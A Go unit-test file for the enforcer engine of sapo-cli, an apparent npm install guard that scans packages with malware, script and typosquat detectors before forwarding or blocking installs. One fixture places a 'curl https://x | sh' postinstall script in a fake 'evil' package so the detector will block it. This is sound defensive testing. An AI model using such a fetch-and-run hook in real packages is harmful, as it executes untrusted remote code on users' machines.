package enforcer

import (
	"bytes"
	"context"
	"fmt"
	"sync/atomic"
	"testing"
	"time"

	"github.com/Salta1414/sapo-cli/internal/auditlog"
	"github.com/Salta1414/sapo-cli/internal/config"
	"github.com/Salta1414/sapo-cli/internal/detector"
	"github.com/Salta1414/sapo-cli/internal/interceptor"
	"github.com/Salta1414/sapo-cli/internal/resolver"
	"github.com/Salta1414/sapo-cli/internal/risk"
	"github.com/Salta1414/sapo-cli/internal/store"
)

type fakeStore struct {
	enabled    bool
	enabledErr error
	trusted    map[string]bool
	trustErr   error
	cache      map[string]*risk.PackageVerdict
	cacheErr   error
	putCalls   []risk.PackageVerdict
}

func newFakeStore() *fakeStore {
	return &fakeStore{
		enabled: true,
		trusted: make(map[string]bool),
		cache:   make(map[string]*risk.PackageVerdict),
	}
}

func (s *fakeStore) Enabled() (bool, error) { return s.enabled, s.enabledErr }

func (s *fakeStore) IsTrusted(name, version string) (bool, error) {
	return s.trusted[name], s.trustErr
}

func (s *fakeStore) GetVerdict(ref risk.PackageRef, ttl time.Duration) (*risk.PackageVerdict, error) {
	if s.cacheErr != nil {
		return nil, s.cacheErr
	}
	return s.cache[ref.String()], nil
}

func (s *fakeStore) PutVerdict(v risk.PackageVerdict) error {
	s.putCalls = append(s.putCalls, v)
	return nil
}

type fakeResolver struct {
	set    *resolver.InstallSet
	err    error
	called bool
}

func (r *fakeResolver) ResolveInstallSet(_ context.Context, _ string, _ []string, _ bool) (*resolver.InstallSet, error) {
	r.called = true
	return r.set, r.err
}

type fakeForwarder struct {
	exitCode int
	err      error
	calls    [][]string
}

func (f *fakeForwarder) Forward(manager string, args []string) (int, error) {
	f.calls = append(f.calls, append([]string{manager}, args...))
	return f.exitCode, f.err
}

type stubDetector struct {
	kind     risk.DetectorKind
	severity int
	category risk.Category
	calls    atomic.Int32
}

func (d *stubDetector) Kind() risk.DetectorKind { return d.kind }

func (d *stubDetector) Evaluate(_ context.Context, _ risk.PackageRef, _ *detector.Metadata) risk.Signal {
	d.calls.Add(1)
	return risk.Signal{
		Detector: d.kind,
		Severity: d.severity,
		Category: d.category,
		Evidence: "stub",
	}
}

func singlePackageSet(name, version string) *resolver.InstallSet {
	ref := risk.PackageRef{Name: name, Version: version, Registry: "npm"}
	return &resolver.InstallSet{
		Packages: []risk.PackageRef{ref},
		Metadata: map[string]*detector.Metadata{
			ref.String(): {Name: name, Version: version},
		},
	}
}

func testEngine(st Store, res Resolver, fwd Forwarder, dets ...detector.Detector) *Engine {
	cfg := config.Default()
	e := New(cfg, st, dets, res, fwd, auditlog.New(&bytes.Buffer{}))
	e.stdout = &bytes.Buffer{}
	e.stdin = &bytes.Buffer{}
	return e
}

func installCl(specs ...string) interceptor.Classification {
	return interceptor.Classification{Kind: interceptor.InstallFamily, Manager: "npm", Specifiers: specs}
}

func TestRun_PassThroughForwardsVerbatim(t *testing.T) {
	fwd := &fakeForwarder{exitCode: 7}
	res := &fakeResolver{}
	e := testEngine(newFakeStore(), res, fwd)

	code := e.Run(context.Background(), interceptor.Classification{Kind: interceptor.PassThrough, Manager: "npm"},
		".", []string{"run", "build"})

	if code != 7 {
		t.Errorf("exit code = %d, want the child's 7", code)
	}
	if len(fwd.calls) != 1 {
		t.Fatalf("forward calls = %d, want 1", len(fwd.calls))
	}
	if res.called {
		t.Error("resolver must not run for pass-through commands")
	}
	if e.State() != StateForwarded {
		t.Errorf("state = %v, want forwarded", e.State())
	}
}

func TestRun_EmptyInstallSetForwards(t *testing.T) {
	fwd := &fakeForwarder{exitCode: 0}
	res := &fakeResolver{set: &resolver.InstallSet{}}
	det := &stubDetector{kind: risk.DetectorMalware, severity: 100, category: risk.CategoryMalware}
	e := testEngine(newFakeStore(), res, fwd, det)

	code := e.Run(context.Background(), installCl("lodash"), ".", []string{"install", "lodash"})

	if code != ExitAllow {
		t.Errorf("exit code = %d, want %d", code, ExitAllow)
	}
	if len(fwd.calls) != 1 {
		t.Fatalf("forward calls = %d, want 1", len(fwd.calls))
	}
	if det.calls.Load() != 0 {
		t.Error("detectors must not run when nothing new would be installed")
	}
}

func TestRun_ToggleOffBypassesScanning(t *testing.T) {
	st := newFakeStore()
	st.enabled = false
	fwd := &fakeForwarder{exitCode: 1}
	res := &fakeResolver{set: singlePackageSet("evil", "1.0.0")}
	det := &stubDetector{kind: risk.DetectorMalware, severity: 100, category: risk.CategoryMalware}
	e := testEngine(st, res, fwd, det)

	code := e.Run(context.Background(), installCl("evil"), ".", []string{"install", "evil"})

	if code != 1 {
		t.Errorf("exit code = %d, want the real manager's 1", code)
	}
	if res.called {
		t.Error("resolver must not run when the toggle is off")
	}
	if det.calls.Load() != 0 {
		t.Error("detectors must not run when the toggle is off")
	}
}

func TestRun_AllowForwards(t *testing.T) {
	fwd := &fakeForwarder{}
	res := &fakeResolver{set: singlePackageSet("lodash", "4.17.21")}
	det := &stubDetector{kind: risk.DetectorMalware, severity: 0, category: risk.CategoryBenign}
	e := testEngine(newFakeStore(), res, fwd, det)

	code := e.Run(context.Background(), installCl("lodash"), ".", []string{"install", "lodash"})

	if code != ExitAllow {
		t.Errorf("exit code = %d, want %d", code, ExitAllow)
	}
	if len(fwd.calls) != 1 {
		t.Error("allow must forward the install")
	}
}

func TestRun_BlockAborts(t *testing.T) {
	fwd := &fakeForwarder{}
	res := &fakeResolver{set: singlePackageSet("evil", "1.0.0")}
	det := &stubDetector{kind: risk.DetectorMalware, severity: 100, category: risk.CategoryMalware}
	e := testEngine(newFakeStore(), res, fwd, det)

	code := e.Run(context.Background(), installCl("evil"), ".", []string{"install", "evil"})

	if code != ExitBlocked {
		t.Errorf("exit code = %d, want %d", code, ExitBlocked)
	}
	if len(fwd.calls) != 0 {
		t.Error("a blocked install must never be forwarded")
	}
	if e.State() != StateAborted {
		t.Errorf("state = %v, want aborted", e.State())
	}
}

func TestRun_WarnForwardsWithoutConfirmation(t *testing.T) {
	fwd := &fakeForwarder{}
	res := &fakeResolver{set: singlePackageSet("odd", "1.0.0")}
	det := &stubDetector{kind: risk.DetectorScript, severity: 50, category: risk.CategoryMaliciousScript}
	e := testEngine(newFakeStore(), res, fwd, det)
	e.cfg.ConfirmWarn = false

	code := e.Run(context.Background(), installCl("odd"), ".", []string{"install", "odd"})

	if code != ExitAllow {
		t.Errorf("exit code = %d, want %d", code, ExitAllow)
	}
	if len(fwd.calls) != 1 {
		t.Error("warn must forward after displaying the report")
	}
}

func TestRun_WarnConfirmSkippedOffTTY(t *testing.T) {
	// ConfirmWarn set but stdin is not a terminal: forwarding must not hang
	// waiting for input that cannot arrive
	fwd := &fakeForwarder{}
	res := &fakeResolver{set: singlePackageSet("odd", "1.0.0")}
	det := &stubDetector{kind: risk.DetectorScript, severity: 50, category: risk.CategoryMaliciousScript}
	e := testEngine(newFakeStore(), res, fwd, det)
	e.cfg.ConfirmWarn = true

	code := e.Run(context.Background(), installCl("odd"), ".", []string{"install", "odd"})

	if code != ExitAllow {
		t.Errorf("exit code = %d, want %d", code, ExitAllow)
	}
	if len(fwd.calls) != 1 {
		t.Error("warn off-TTY must forward without prompting")
	}
}

func TestRun_TrustOverridesMalwareHit(t *testing.T) {
	st := newFakeStore()
	st.trusted["evil"] = true
	fwd := &fakeForwarder{}
	res := &fakeResolver{set: singlePackageSet("evil", "1.0.0")}
	det := &stubDetector{kind: risk.DetectorMalware, severity: 100, category: risk.CategoryMalware}
	e := testEngine(st, res, fwd, det)

	code := e.Run(context.Background(), installCl("evil"), ".", []string{"install", "evil"})

	if code != ExitAllow {
		t.Errorf("exit code = %d, want %d (trust forces allow)", code, ExitAllow)
	}
	if det.calls.Load() != 0 {
		t.Error("detectors must be skipped for trusted packages")
	}
	if len(st.putCalls) != 0 {
		t.Error("trusted verdicts must not be cached")
	}
}

func TestRun_CacheHitSkipsDetectors(t *testing.T) {
	st := newFakeStore()
	ref := risk.PackageRef{Name: "lodash", Version: "4.17.21", Registry: "npm"}
	cached := risk.Aggregate(ref, nil, risk.DefaultThresholds())
	st.cache[ref.String()] = &cached

	fwd := &fakeForwarder{}
	res := &fakeResolver{set: singlePackageSet("lodash", "4.17.21")}
	det := &stubDetector{kind: risk.DetectorMalware, severity: 0, category: risk.CategoryBenign}
	e := testEngine(st, res, fwd, det)

	code := e.Run(context.Background(), installCl("lodash"), ".", []string{"install", "lodash"})

	if code != ExitAllow {
		t.Errorf("exit code = %d, want %d", code, ExitAllow)
	}
	if det.calls.Load() != 0 {
		t.Error("a cache hit must not re-run detectors")
	}
	if len(st.putCalls) != 0 {
		t.Error("cached verdicts must not be re-written")
	}
}

func TestRun_FreshVerdictIsCached(t *testing.T) {
	st := newFakeStore()
	fwd := &fakeForwarder{}
	res := &fakeResolver{set: singlePackageSet("lodash", "4.17.21")}
	det := &stubDetector{kind: risk.DetectorMalware, severity: 0, category: risk.CategoryBenign}
	e := testEngine(st, res, fwd, det)

	e.Run(context.Background(), installCl("lodash"), ".", []string{"install", "lodash"})

	if len(st.putCalls) != 1 {
		t.Fatalf("cache writes = %d, want 1", len(st.putCalls))
	}
	if st.putCalls[0].Package.Name != "lodash" {
		t.Errorf("cached package = %q, want lodash", st.putCalls[0].Package.Name)
	}
}

func TestRun_ResolutionErrorFailsOpen(t *testing.T) {
	fwd := &fakeForwarder{exitCode: 0}
	res := &fakeResolver{err: &resolver.ResolutionError{Path: "package.json", Err: fmt.Errorf("boom")}}
	det := &stubDetector{kind: risk.DetectorMalware, severity: 100, category: risk.CategoryMalware}
	e := testEngine(newFakeStore(), res, fwd, det)

	code := e.Run(context.Background(), installCl("whatever"), ".", []string{"install", "whatever"})

	if code != ExitAllow {
		t.Errorf("exit code = %d, want %d (fail open)", code, ExitAllow)
	}
	if len(fwd.calls) != 1 {
		t.Error("resolution failure must forward, never abort")
	}
}

func TestRun_CorruptStoreFailsOpen(t *testing.T) {
	st := newFakeStore()
	st.trustErr = fmt.Errorf("trust read: %w", store.ErrCorrupt)
	fwd := &fakeForwarder{}
	res := &fakeResolver{set: singlePackageSet("evil", "1.0.0")}
	det := &stubDetector{kind: risk.DetectorMalware, severity: 100, category: risk.CategoryMalware}
	e := testEngine(st, res, fwd, det)

	code := e.Run(context.Background(), installCl("evil"), ".", []string{"install", "evil"})

	if code != ExitAllow {
		t.Errorf("exit code = %d, want %d (corrupt store fails open)", code, ExitAllow)
	}
	if len(fwd.calls) != 1 {
		t.Error("corrupt store must forward with a warning, never enforce")
	}
}

func TestRun_InterruptAbortsByDefault(t *testing.T) {
	fwd := &fakeForwarder{}
	res := &fakeResolver{set: singlePackageSet("lodash", "4.17.21")}
	det := &stubDetector{kind: risk.DetectorMalware, severity: 0, category: risk.CategoryBenign}
	e := testEngine(newFakeStore(), res, fwd, det)

	ctx, cancel := context.WithCancel(context.Background())
	cancel()

	code := e.Run(ctx, installCl("lodash"), ".", []string{"install", "lodash"})

	if code != ExitInternal {
		t.Errorf("exit code = %d, want %d", code, ExitInternal)
	}
	if len(fwd.calls) != 0 {
		t.Error("an interrupted scan must not forward by default")
	}
}

func TestRun_InterruptForwardsWhenConfigured(t *testing.T) {
	fwd := &fakeForwarder{}
	res := &fakeResolver{set: singlePackageSet("lodash", "4.17.21")}
	det := &stubDetector{kind: risk.DetectorMalware, severity: 0, category: risk.CategoryBenign}
	e := testEngine(newFakeStore(), res, fwd, det)
	e.cfg.FailOpenOnInterrupt = true

	ctx, cancel := context.WithCancel(context.Background())
	cancel()

	code := e.Run(ctx, installCl("lodash"), ".", []string{"install", "lodash"})

	if code != ExitAllow {
		t.Errorf("exit code = %d, want %d", code, ExitAllow)
	}
	if len(fwd.calls) != 1 {
		t.Error("fail_open_on_interrupt must forward")
	}
}

func TestRun_OneBadPackageGatesWholeInstall(t *testing.T) {
	clean := risk.PackageRef{Name: "lodash", Version: "4.17.21", Registry: "npm"}
	dirty := risk.PackageRef{Name: "evil", Version: "1.0.0", Registry: "npm"}
	set := &resolver.InstallSet{
		Packages: []risk.PackageRef{clean, dirty},
		Metadata: map[string]*detector.Metadata{
			clean.String(): {Name: "lodash"},
			dirty.String(): {Name: "evil", Scripts: map[string]string{"postinstall": "curl https://x | sh"}},
		},
	}

	fwd := &fakeForwarder{}
	res := &fakeResolver{set: set}
	e := testEngine(newFakeStore(), res, fwd,
		detector.NewScriptDetector(),
		detector.NewTyposquatDetector(),
	)

	code := e.Run(context.Background(), installCl(), ".", []string{"install"})

	if code != ExitBlocked {
		t.Errorf("exit code = %d, want %d (one bad package gates all)", code, ExitBlocked)
	}
	if len(fwd.calls) != 0 {
		t.Error("install with one blocked package must not forward")
	}
}

func TestScanSet_DegradedLookupStillAllows(t *testing.T) {
	set := singlePackageSet("left-pad", "1.3.0")
	degraded := &stubDegradedDetector{}
	e := testEngine(newFakeStore(), &fakeResolver{set: set}, &fakeForwarder{}, degraded)

	verdict, err := e.ScanSet(context.Background(), set)
	if err != nil {
		t.Fatalf("ScanSet error: %v", err)
	}

	if verdict.Decision != risk.DecisionAllow {
		t.Errorf("decision = %v, want allow (degraded signal carries severity 0)", verdict.Decision)
	}
	if !verdict.Packages[0].Degraded() {
		t.Error("verdict must surface the degraded lookup")
	}
}

type stubDegradedDetector struct{}

func (d *stubDegradedDetector) Kind() risk.DetectorKind { return risk.DetectorMalware }

func (d *stubDegradedDetector) Evaluate(_ context.Context, _ risk.PackageRef, _ *detector.Metadata) risk.Signal {
	return risk.Signal{
		Detector: risk.DetectorMalware,
		Severity: 0,
		Category: risk.CategoryBenign,
		Evidence: "threat database unavailable: timeout",
		Degraded: true,
	}
}
